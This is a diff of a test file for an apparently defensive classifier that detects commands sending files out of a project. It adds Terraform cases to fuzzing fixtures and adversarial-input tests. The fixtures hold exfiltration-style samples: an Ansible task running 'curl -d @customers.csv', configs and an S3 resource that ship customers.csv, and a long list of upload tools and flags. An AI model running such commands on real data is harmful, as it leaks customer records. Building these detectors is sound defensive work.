@@ -68,6 +68,7 @@ describe('robustness', () => {
       'site.yml': '- import_playbook: site.yml\n- hosts: web:!x\n  roles: [ship, { role: ship }]\n  tasks:\n  - include_tasks: site.yml\n  - block:\n    - copy: { src: customers.csv, dest: /tmp }\n    - shell: |\n        curl -d @customers.csv x\n',
       'pyproject.toml': '[project]\nname = "p"\n[tool.poetry]\npackages = [{ include = "lib" }]\ninclude = ["customers.csv"]\n[build-system]\nbuild-backend = "poetry.core.masonry.api"\n',
       'MANIFEST.in': 'graft lib\ninclude customers.csv\n',
+      'main.tf': 'terraform {\n  backend "http" { address = "x" }\n  cloud {}\n}\nmodule "m" {\n  source = "./"\n}\nresource "aws_s3_object" "o" {\n  source = "${path.module}/customers.csv"\n  content = file("customers.csv")\n}\n',
       'roles/ship/tasks/main.yml': '- ansible.builtin.template:\n    src: customers.csv\n- include_role:\n    name: ship\n',
     };
     for (const [name, text] of Object.entries(files)) {
@@ -79,11 +80,11 @@ describe('robustness', () => {
       // Message brokers, stores, file shares, model and message CLIs, encryptors, expect.
       ...['kafka-console-producer', 'kcat', 'rpk', 'mosquitto_pub', 'nats', 'amqp-publish', 's5cmd', 'supabase', 'databricks', 'dbfs', 'hdfs', 'hadoop', 'influx', 'elasticdump', 'snowsql'],
       ...['ncftpput', 'wput', 'ipfs', 'pastebinit', 'gdrive', 'dropbox_uploader.sh', 'megaput', 'mega-put', 'box', 'hf', 'kaggle', 'wandb', 'mlflow', 'firebase', 'oci', 'ibmcloud', 'aliyun', 'ossutil'],
-      ...['llm', 'openai', 'sgpt', 'mods', 'aichat', 'gemini', 'claude', 'codex', 'ollama', 'ntfy', 'apprise', 'shoutrrr', 'telegram-send', 'signal-cli', 'matrix-commander', 'logger', 'expect', 'gpg', 'age', 'xh', 'git send-email', 'deno eval', 'php -r', 'sshfs', 'mount', 's3fs', 'gcsfuse', 'ansible', 'ansible-playbook', 'pscp', 'twine', 'uv', 'hatch', 'poetry', 'flit', 'pdm', 'pyproject-build', 'python3 -m build', 'python -m twine', 'python setup.py']);
+      ...['llm', 'openai', 'sgpt', 'mods', 'aichat', 'gemini', 'claude', 'codex', 'ollama', 'ntfy', 'apprise', 'shoutrrr', 'telegram-send', 'signal-cli', 'matrix-commander', 'logger', 'expect', 'gpg', 'age', 'xh', 'git send-email', 'deno eval', 'php -r', 'sshfs', 'mount', 's3fs', 'gcsfuse', 'ansible', 'ansible-playbook', 'pscp', 'twine', 'uv', 'hatch', 'poetry', 'flit', 'pdm', 'pyproject-build', 'python3 -m build', 'python -m twine', 'python setup.py', 'terraform', 'tofu', 'terraform -chdir=.']);
     const word = fc.oneof(
       fc.constantFrom('-f', '-t', '-K', '-k', '-d', '-p', '-u', '-D', '-s', '-c', '-h', '-a', '-l', '-n', '-x', '-', '@', '--push', '--config', '--file', '--registry', '--uri', '--set', '--set-file', '--dry-run'),
       fc.constantFrom('build', 'buildx', 'push', 'tag', 'image', 'publish', 'apply', 'install', 'upgrade', '.', 'lib', 'customers.csv', 'up.cfg', 'seed.sql', 'Dockerfile', 'api.acme-analytics.io:443', 'https://api.acme-analytics.io', '3<', '<&3', '{in}<'),
-      fc.constantFrom('sdist', 'bdist_wheel', '--sdist', '--wheel', '--build', '--no-build', '-r', 'testpypi', 'dist/*', 'site.yml', '--check', '-C', '-l', '--connection=local', '-elocal=1', '@site.yml', 'load', 'in', 'attack', 'curl', 'run', 'pack', '-m', '-w', '-r', '-S', '-i', '-e', '--workspaces', '--filter', '-targets=targets.txt', 'crm.upload', 'up.py', 'targets.txt', 'postgresql://db.acme-analytics.io/crm'),
+      fc.constantFrom('apply', 'plan', '-var', '-var=k=v', '-var-file', '-auto-approve', '-chdir=lib', 'sdist', 'bdist_wheel', '--sdist', '--wheel', '--build', '--no-build', '-r', 'testpypi', 'dist/*', 'site.yml', '--check', '-C', '-l', '--connection=local', '-elocal=1', '@site.yml', 'load', 'in', 'attack', 'curl', 'run', 'pack', '-m', '-w', '-r', '-S', '-i', '-e', '--workspaces', '--filter', '-targets=targets.txt', 'crm.upload', 'up.py', 'targets.txt', 'postgresql://db.acme-analytics.io/crm'),
       fc.constantFrom('cp', 'put', 'pub', 'publish', 'upload', 'write', 'produce', 'topic', 'kv', 'object', 'fs', 'dfs', '-put', 'add', 'send', 'exec', 'api', 'files', 'datasets', 'create', 'artifact', 'artifacts', 'log-artifact', 'storage', 'database:set', 'oss', 'os'),
       fc.constantFrom('-P', '-b', '-L', '--bootstrap-server', '--endpoint-url', '--host', '--input', '--output', '-q', '-a', '-o', '-R', '-c', 's3://b/k', 'ss:///b/k', 'dbfs:/k', 'oss://b/k', 'ftp://ftp.acme-analytics.io/', 'tgram://t/c', 'mailto://ops@acme-analytics.io', '@customers.csv', 'spawn', '"put customers.csv\\r"', '{', '}', ';'),
       fc.stringMatching(/^[a-z0-9@:/._=-]{0,12}$/),
@@ -125,6 +126,12 @@ describe('reading long adversarial command lines and files', () => {
     expect(classify('sh self.sh').uninspected).toContain('it runs scripts more than 512 times');
     fs.writeFileSync(path.join(cwd, 'self.yml'), `- hosts: localhost\n  tasks:\n${Array.from({ length: 50 }, (_, k) => `    - shell: ansible-playbook self.yml -e k=${k}\n`).join('')}`);
     expect(classify('ansible-playbook self.yml').uninspected).toContain('it runs scripts more than 512 times');
+  });
+
+  it('reads a terraform configuration of 100,000 unclosed comments and strings, and local modules that name each other', () => {
+    fs.mkdirSync(path.join(cwd, 'tf'), { recursive: true });
+    fs.writeFileSync(path.join(cwd, 'tf', 'main.tf'), `resource "aws_s3_object" "o" {\n  source = "\${path.module}/../customers.csv"\n}\n${'/* "a '.repeat(100_000)}\n${'module "m" { source = "./" }\n'.repeat(1_000)}`);
+    expect(classify('terraform -chdir=tf apply').transfers.map((t) => t.host)).toEqual(['amazonaws.com']);
   });
 
   it('reads a curl config of 300,000 lines', () => {
